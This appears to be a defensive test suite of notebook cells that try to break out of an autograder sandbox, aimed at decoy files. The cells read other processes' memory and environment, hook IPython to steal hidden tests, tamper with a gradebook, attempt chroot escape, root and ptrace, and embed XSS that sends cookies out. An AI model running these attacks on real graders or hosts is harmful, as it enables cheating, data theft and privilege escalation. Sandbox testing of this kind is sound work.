# Attacks that want what students are not to see: hidden tests, solutions, the gradebook, other submissions, the machine.
# What they find they print: a decoy's text, a hidden line or the word TAKEN in any output is a success. Files are written, processes signalled
# and file systems mounted only where nothing is lost: DECOYS, VICTIM and folders that the attack itself has made. HIDDEN is read, no more.

# %% attack="reads_the_decoys" says="files whose paths are known are opened" by="files"
for path in DECOYS + HIDDEN:
    try:
        print(open(path, errors="replace").read())
    except OSError as error:
        print(error)

# %% attack="lists_upwards" says="folders are listed, from here up to the root" by="files"
import itertools
import os

for depth in range(8):
    for place, folders, files in itertools.islice(os.walk("../" * depth or "."), 300):
        for name in files:
            if "logistic" in name or "decoy" in place:
                print(open(os.path.join(place, name), errors="replace").read(3000))

# %% attack="imports_solutions" says="the hidden grading is imported" by="judge"
try:
    import solutions.grading.logistic as hidden

    print(open(hidden.__file__).read())
except ImportError as error:
    print(error)

# %% attack="imports_the_grader" says="the judge's modules are imported" by="judge"
try:
    from grader.engine.judge import notebook

    print(notebook.__file__)
except ImportError as error:
    print(error)

# %% attack="sources_in_memory" says="hidden lines are looked for in all strings of the process" by="judge"
import gc

for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple)):
        for item in thing.values() if isinstance(thing, dict) else thing:
            if isinstance(item, str) and "HIDDEN TESTS" in item and len(item) < 5000:
                print(item)

# %% attack="own_memory" says="hidden lines are looked for in /proc/self/mem" by="judge"
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            if "[heap]" in line:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(begin)
                text = memory.read(min(end - begin, 64 << 20))
                at = text.find(b"from solutions." + b"grading")
                print(text[at : at + 200] if at >= 0 else "nothing")
except OSError as error:
    print(error)

# %% attack="parents_memory" says="what /proc tells of other processes is read" by="processes"
import os

for pid in {1, os.getppid(), VICTIM, *range(2, 400)} - {0, os.getpid()}:
    try:
        found = open(f"/proc/{pid}/environ", "rb").read() + open(f"/proc/{pid}/cmdline", "rb").read()
        print("TAKEN", pid, found[found.find(b"DECOY") :][:60])
    except OSError:
        pass

# %% attack="history_of_cells" says="the sources of later cells are looked for in the history" by="judge"
def sigmoid(z):
    print(In, get_ipython().user_ns.get("_ih"))
    return z

# %% attack="pre_run_cell_saves" says="a hook saves the source of every cell" by="judge"
sources = []
get_ipython().events.register("pre_run_cell", lambda info: sources.append(info.raw_cell))
get_ipython().events.register("post_run_cell", lambda result: print([s for s in sources if "HIDDEN" in s]))

# %% attack="transformer_saves" says="an input transformer saves the source of every cell" by="judge"
saved = []
get_ipython().input_transformers_cleanup.append(lambda lines: saved.append("".join(lines)) or lines)
get_ipython().events.register("post_run_cell", lambda result: print([s for s in saved if "solutions" in s]))

# %% attack="callers_source" says="the source of the calling cell is read from the frames" by="judge"
import linecache
import sys


def sigmoid(z):
    frame = sys._getframe()
    while frame is not None:
        print("".join(linecache.getlines(frame.f_code.co_filename))[:3000])
        frame = frame.f_back
    return z

# %% attack="traceback_shows_hidden" says="an exception whose traceback would quote the hidden cell" by="judge"
class Loud(Exception):
    def __str__(self):
        import traceback

        return "".join(traceback.format_stack())


def sigmoid(z):
    raise Loud

# %% attack="arguments_are_kept" says="the fresh inputs are collected and printed by a later cell" by="judge"
collected = []


def sigmoid(z):
    collected.append(z)
    return z

# %% attack="environment" says="variables of the environment are printed" by="nothing"
import os

print(dict(os.environ))

# %% attack="opens_the_gradebook" says="SQL on the gradebook" by="files"
import sqlite3

for path in [path for path in DECOYS if path.endswith(".db")]:
    for statement in ("SELECT * FROM secret", "CREATE TABLE stolen (id)", "UPDATE secret SET token = 'mine'"):
        try:
            with sqlite3.connect(path) as db:
                print(db.execute(statement).fetchall())
        except sqlite3.Error as error:
            print(error)

# %% attack="overwrites_the_decoys" says="files of others are overwritten, renamed and deleted" by="files"
import os

for path in DECOYS:
    for deed in (
        lambda p: os.chmod(p, 0o777),
        lambda p: open(p, "w").write("mine"),
        lambda p: os.rename(p, p + "x"),
        os.unlink,
        lambda p: os.rename(os.path.dirname(p), os.path.dirname(p) + "x"),
        lambda p: open(os.path.join(os.path.dirname(p), "new"), "w").write("mine"),
    ):
        try:
            deed(path)
            print("TAKEN")
        except OSError as error:
            print(error)

# %% attack="symbolic_links" says="links from the scratch folder to the decoys" by="files"
import os

for number, path in enumerate(DECOYS):
    try:
        os.symlink(path, f"link{number}")
        print(open(f"link{number}").read())
        os.link(path, f"hard{number}")
    except OSError as error:
        print(error)

# %% attack="proc_root" says="other roots through /proc" by="processes"
import os

for path in DECOYS + HIDDEN:
    for root in ("/proc/1/root", "/proc/self/root", f"/proc/{os.getppid()}/root", f"/proc/{VICTIM}/root", "/proc/self/cwd/../.."):
        try:
            print(open(root + path, errors="replace").read())
        except OSError as error:
            print(error)

# %% attack="connects_to_loopback" says="a server on this machine is connected to" by="network"
import socket

try:
    with socket.create_connection(("127.0.0.1", PORT), 2) as connection:
        connection.send(b"hello")
except OSError as error:
    print(error)

# %% attack="other_sockets" says="sockets of every family that leaves the machine, or the sandbox" by="network"
import socket

for family in (socket.AF_INET, socket.AF_INET6, getattr(socket, "AF_NETLINK", 16), 17, 40):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            opened = socket.socket(family, kind)
            if family == socket.AF_INET:
                opened.connect(("127.0.0.1", PORT))
            print("TAKEN", family, kind)
        except OSError as error:
            print(error)

# %% attack="inherited_descriptors" says="every descriptor that is open is read and written" by="rights"
import os

for descriptor in range(3, 256):
    try:
        print(descriptor, os.readlink(f"/proc/self/fd/{descriptor}"), os.lseek(descriptor, 0, 0), os.read(descriptor, 100))
    except OSError:
        pass

# %% attack="escapes_by_chroot" says="chroot, then up" by="rights"
import os
import tempfile

try:
    folder = tempfile.mkdtemp()
    os.chroot(folder)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    print("TAKEN", [open(path, errors="replace").read() for path in DECOYS])
except OSError as error:
    print(error)

# %% attack="mounts" says="namespaces are left and entered, and a file system is mounted on an own folder and unmounted" by="rights"
import ctypes
import tempfile

libc = ctypes.CDLL(None, use_errno=True)
folder = tempfile.mkdtemp().encode()
for call in (
    lambda: libc.unshare(0x20000),
    lambda: libc.unshare(0x10000000),
    lambda: libc.mount(b"none", folder, b"tmpfs", 0, None),
    lambda: libc.mount(b"none", folder, b"proc", 0, None),
    lambda: libc.mount(b"/", folder, None, 4096, None),
    lambda: libc.umount2(folder, 2),
    lambda: libc.setns(3, 0),
):
    print("TAKEN" if call() == 0 else "refused", ctypes.get_errno())

# %% attack="becomes_root" says="the user is changed" by="rights"
import os

for deed in (lambda: os.setresuid(0, 0, 0), lambda: os.setresgid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.seteuid(0)):
    try:
        deed()
        print("TAKEN", os.getresuid())
    except OSError as error:
        print(error)

# %% attack="traces_others" says="PTRACE_SEIZE, process_vm_readv and pidfd_open on other processes" by="processes"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), VICTIM} - {0}:
    for result in (libc.ptrace(0x4206, pid, 0, 0), libc.syscall(434, pid, 0), libc.syscall(310, pid, 0, 0, 0, 0, 0)):
        print("TAKEN" if result >= 0 else "refused", ctypes.get_errno())

# %% attack="kernel_surface" says="system calls that no notebook needs (numbers of x86-64)" by="rights"
import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
numbers = {"bpf": 321, "userfaultfd": 323, "io_uring_setup": 425, "perf_event_open": 298, "keyctl": 250, "add_key": 248}
for name, number in numbers.items() if platform.machine() == "x86_64" else ():
    print(name, "TAKEN" if libc.syscall(number, 0, 0, 0, 0, 0) >= 0 else "refused", ctypes.get_errno())

# %% attack="types_into_the_terminal" says="the terminal of whoever grades is opened" by="rights"
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
    try:
        open(name, "w")
        print("TAKEN", name)
    except OSError as error:
        print(error)

# %% attack="html_in_messages" says="markup in an exception's text, for the feedback page" by="values"
def sigmoid(z):
    raise ValueError("<script>document.title = 'stolen'</script><img src=x onerror=alert(1)>")

# %% attack="html_in_outputs" says="a page that calls home, as an output" by="nothing"
from IPython.display import HTML, Javascript, display

display(HTML("<script>fetch('http://127.0.0.1:1/' + document.cookie)</script>"))
display(Javascript("element.innerHTML = document.cookie"))
